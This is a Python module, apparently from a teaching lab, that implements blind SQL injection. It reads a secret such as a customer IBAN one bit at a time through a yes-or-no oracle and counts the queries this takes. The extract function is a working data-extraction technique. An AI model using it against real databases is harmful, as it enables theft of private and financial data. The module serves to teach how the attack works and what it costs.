"""Reading a secret through a page that only says yes or no, one bit at a time.

A letter is a number, its code point; a number is a row of bits; and "is this bit set?" has the
answer yes or no. For a text of n letters of 7 bits that is 7 n questions, and a few for its
length. Trying one letter after another takes (k + 1) / 2 questions on average, for k letters that
are equally likely.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from labs.arguments import text, whole

LENGTH_BITS = 7
"""Bits of the length: texts of up to 127 letters are read."""


@dataclass(frozen=True, slots=True)
class Extraction:
    """A secret, and how many questions it took."""

    text: str
    questions: int


def extract(ask: Callable[[str], bool], value: str, *, bits: int = 7) -> Extraction:
    """Read a text out of a database that only answers yes or no.

    Args:
        ask: Answers whether a condition, given as SQL, holds.
        value: The SQL expression to read, such as ``"(SELECT iban FROM customers LIMIT 1)"``.
        bits: Bits of a letter: 7 for English letters, digits and signs, 21 for all of Unicode.

    Raises:
        ValueError: If ``bits`` is not within 1 to 21.

    >>> import sqlite3
    >>> database = sqlite3.connect(":memory:")
    >>> extract(lambda sql: bool(database.execute(f"SELECT {sql}").fetchone()[0]), "'surdeg'")
    Extraction(text='surdeg', questions=49)
    >>> database.close()
    """
    text("value", value)
    bits = whole("bits", bits, low=1, high=21)
    questions = 0

    def number(expression: str, width: int) -> int:
        nonlocal questions
        questions += width
        return sum(1 << bit for bit in range(width) if ask(f"{expression} & {1 << bit}"))

    length = number(f"length({value})", LENGTH_BITS)
    letters = [
        chr(number(f"unicode(substr({value}, {place}, 1))", bits)) for place in range(1, length + 1)
    ]
    return Extraction("".join(letters), questions)


def questions_by_bit(length: int, *, bits: int = 7) -> int:
    """Questions that ``extract`` asks for a text of ``length`` letters.

    >>> questions_by_bit(6)
    49
    """
    length = whole("length", length, low=0, high=2**LENGTH_BITS - 1)
    return LENGTH_BITS + length * whole("bits", bits, low=1, high=21)


def questions_by_letter(length: int, *, alphabet: int = 95) -> float:
    """Questions on average, if each letter is tried in turn until one fits.

    Args:
        length: Letters of the secret.
        alphabet: How many letters there are, all equally likely. 95 can be printed in ASCII.

    >>> questions_by_letter(6)
    288.0
    """
    length = whole("length", length, low=0)
    return length * (whole("alphabet", alphabet, low=1) + 1) / 2
